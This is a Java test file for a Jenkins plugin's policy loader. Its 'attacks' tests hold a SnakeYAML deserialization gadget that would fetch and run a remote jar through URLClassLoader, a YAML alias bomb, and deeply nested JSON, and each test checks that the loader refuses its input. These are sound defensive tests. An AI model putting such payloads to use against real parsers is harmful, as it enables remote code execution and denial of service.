package io.jenkins.plugins.relgov.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.SerializationFeature;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.IntRange;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PolicyLoaderTest {

    private static final LoadedPolicy INOPSIO = ShippedPolicies.loaded("inopsio");

    /** The same tree with every object's keys in a random order. */
    private static JsonNode shuffled(JsonNode node, Random random) {
        if (node.isObject()) {
            List<Map.Entry<String, JsonNode>> fields = new ArrayList<>(node.properties());
            Collections.shuffle(fields, random);
            ObjectNode out = JsonNodeFactory.instance.objectNode();
            fields.forEach(f -> out.set(f.getKey(), shuffled(f.getValue(), random)));
            return out;
        }
        if (node.isArray()) {
            ArrayNode out = JsonNodeFactory.instance.arrayNode();
            node.forEach(n -> out.add(shuffled(n, random)));
            return out;
        }
        return node;
    }

    /** YAML → JSON (any key order, any indentation) → load gives the same Policy and the same digest. */
    @Property(tries = 30)
    void digestAndPolicyIndependentOfFormatKeyOrderAndWhitespace(
            @ForAll long seed, @ForAll boolean json, @ForAll boolean pretty, @ForAll @IntRange(max = 3) int pad)
            throws Exception {
        JsonNode tree = shuffled(INOPSIO.document(), new Random(seed));
        ObjectMapper mapper = json ? new ObjectMapper() : new YAMLMapper();
        String text =
                mapper.configure(SerializationFeature.INDENT_OUTPUT, pretty).writeValueAsString(tree);
        text = "\n".repeat(pad) + text + "\n".repeat(pad);
        LoadedPolicy reloaded = PolicyLoader.parse(json ? "inopsio.json" : "inopsio.yaml", text);
        assertThat(reloaded.policy()).isEqualTo(INOPSIO.policy());
        assertThat(reloaded.digest()).isEqualTo(INOPSIO.digest());
    }

    @Test
    void digestChangesWithAnyValue() throws Exception {
        String yaml = new YAMLMapper()
                .writeValueAsString(INOPSIO.document())
                .replace("monitoringWindow: \"48h\"", "monitoringWindow: \"47h\"");
        assertThat(yaml).contains("47h");
        assertThat(PolicyLoader.parse("x.yaml", yaml).digest()).isNotEqualTo(INOPSIO.digest());
    }

    @Test
    void loadsFromAFileAndNamesItInProblems(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("acme.yaml");
        Files.writeString(file, "name: acme\nroles: {}\ntiers:\n  major: {approvals: [{role: ciso}]}\n");
        PolicyException e = catchThrowableOfType(PolicyException.class, () -> PolicyLoader.load(file));
        assertThat(e.problems())
                .extracting(PolicyProblem::toString)
                .containsExactly(
                        file + ":4:30: tiers.major.approvals[0].role: unknown role 'ciso' (no roles are defined)");
        assertThatThrownBy(() -> PolicyLoader.load(dir.resolve("missing.yaml")))
                .isInstanceOf(UncheckedIOException.class)
                .hasMessageContaining("missing.yaml");
    }

    // ------------------------------------------------------------------ attacks

    @Test
    void yamlTagsNeverInstantiateClasses() {
        String yaml = "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"http://127.0.0.1:1/x.jar\"]]]]\nroles: {}\ntiers: {}\n";
        PolicyException e = catchThrowableOfType(PolicyException.class, () -> PolicyLoader.parse("evil.yaml", yaml));
        assertThat(e).isNotNull();
        assertThat(e.problems())
                .extracting(PolicyProblem::toString)
                .anySatisfy(p -> assertThat(p).startsWith("evil.yaml:1:7: name: expected text, found a list"));
    }

    @Test
    void aliasesAreRefusedSoAliasBombsCannotExpand() {
        StringBuilder yaml =
                new StringBuilder("name: acme\nroles: {}\ntiers: {}\ndescription: &a [x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char p = (char) (c - 1);
            yaml.append("title: &")
                    .append(c)
                    .append(" [*")
                    .append(p)
                    .append(", *")
                    .append(p)
                    .append(", *")
                    .append(p)
                    .append("]\n");
        }
        PolicyException e =
                catchThrowableOfType(PolicyException.class, () -> PolicyLoader.parse("bomb.yaml", yaml.toString()));
        assertThat(e.problems())
                .extracting(PolicyProblem::toString)
                .contains(
                        "bomb.yaml:5:12: title[0]: YAML aliases (*a) are not supported in policies; write the value out");
        // an alias must not silently load as its own name
        assertThat(catchThrowableOfType(
                                PolicyException.class,
                                () -> PolicyLoader.parse("a.yaml", "x: &n acme\nname: *n\nroles: {}\ntiers: {}\n"))
                        .getMessage())
                .contains("a.yaml:2:7: name: YAML aliases (*n) are not supported");
    }

    @Test
    void oversizedAndDeeplyNestedDocumentsAreRefused() {
        String big = "name: acme\ndescription: \"" + "x".repeat(PolicyDocument.MAX_BYTES) + "\"\n";
        assertThatThrownBy(() -> PolicyLoader.parse("big.yaml", big))
                .isInstanceOf(PolicyException.class)
                .hasMessageContaining("the limit is " + PolicyDocument.MAX_BYTES);
        String deep = "[".repeat(5000) + "]".repeat(5000);
        PolicyException e = catchThrowableOfType(PolicyException.class, () -> PolicyLoader.parse("deep.json", deep));
        assertThat(e.malformed()).isTrue();
        assertThat(e.getMessage()).contains("nesting depth");
    }
}
